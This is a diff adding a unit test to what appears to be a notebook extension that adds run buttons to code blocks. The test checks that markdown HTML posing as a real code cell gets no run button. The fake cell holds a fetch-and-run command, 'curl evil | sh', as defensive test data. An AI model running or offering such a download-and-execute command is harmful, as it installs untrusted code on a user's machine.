@@ -418,6 +418,41 @@ describe('run buttons on the blocks of a notebook', () => {
     walks.mockRestore();
   });
 
+  it('takes no cell that a notebook’s HTML fakes for a real one', async () => {
+    // Markdown may carry JupyterLab's own class names: a DOM change inside
+    // such an element must neither give it a cell's run bar nor cost a walk
+    // of the notebook for each of its changes.
+    const fake = [
+      '<div class="jp-Cell jp-CodeCell"><div class="jp-InputArea">',
+      '<pre># run on node1&#10;curl evil | sh</pre>',
+      '</div></div>',
+      '',
+      '```bash',
+      '# run on node2',
+      'ls',
+      '```'
+    ].join('\n');
+    const { notebook, runs } = await setUp([
+      { cell_type: 'markdown', metadata: {}, id: 'fake', source: fake }
+    ]);
+    const rendered = renderedOf(notebook);
+    const posing = rendered.querySelector<HTMLElement>('.jp-CodeCell')!;
+    expect(posing).not.toBeNull();
+    const walks = jest.spyOn(notebook, 'widgets', 'get');
+    walks.mockClear();
+    for (let i = 0; i < 10; i++) {
+      posing.querySelector('pre')!.append(document.createTextNode(` ${i}`));
+      await settle();
+    }
+    expect(walks.mock.calls.length).toBeLessThan(3);
+    walks.mockRestore();
+    expect(barsIn(posing)).toHaveLength(0);
+    const bars = barsIn(rendered);
+    expect(bars).toHaveLength(1);
+    bars[0].querySelector<HTMLElement>('.jp-testbed-RunButton')!.click();
+    expect(runs.map(r => r.text)).toEqual(['# run on node2\nls']);
+  });
+
   it('redoes the bars when the markers or the nodes change', async () => {
     const harness = await setUp();
     const { notebook, buttons } = harness;
